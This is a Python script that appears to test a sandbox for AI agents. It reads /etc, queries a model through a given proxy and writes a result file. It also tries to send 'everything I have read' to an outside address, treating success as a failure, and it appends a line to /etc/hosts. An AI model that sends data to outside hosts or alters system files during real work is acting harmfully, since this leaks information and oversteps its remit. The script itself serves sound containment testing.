#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What an agent's script does: reads files, asks a model through the proxy it was given, writes a result. And one thing it
should not do: it tries to reach somebody else. It knows nothing of the sandbox."""

import json
import os
import sys
import urllib.error
import urllib.request

PROXY = os.environ["PROXY"]
ELSEWHERE = "http://198.51.100.7/collect"


def fetch(url, data=None):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with opener.open(urllib.request.Request(url, data), timeout=10) as answer:
        return answer.read().decode()


def main():
    names = sorted(os.listdir("/etc"))
    with open("/etc/os-release") as f:
        system = dict(line.rstrip().split("=", 1) for line in f if "=" in line)
    answer = json.loads(fetch(PROXY + "/v1/answer", json.dumps({"files": len(names)}).encode()))
    print("the proxy says:", answer["text"])

    try:
        fetch(ELSEWHERE, b"everything I have read")
        print("the connection elsewhere WORKED")
        return 1
    except (urllib.error.URLError, OSError) as error:
        print("elsewhere:", getattr(error, "reason", error))

    os.makedirs("/work", exist_ok=True)
    with open("/work/result.json", "w") as f:
        json.dump({"system": system.get("PRETTY_NAME", "").strip('"'), "files_in_etc": len(names), "answer": answer["text"]}, f)
    with open("/etc/hosts", "a") as f:
        f.write("127.0.0.1 changed.by.agent\n")
    print("wrote /work/result.json, and changed /etc/hosts: here it says", open("/etc/hosts").read().split("\n")[-2])
    return 0


if __name__ == "__main__":
    sys.exit(main())
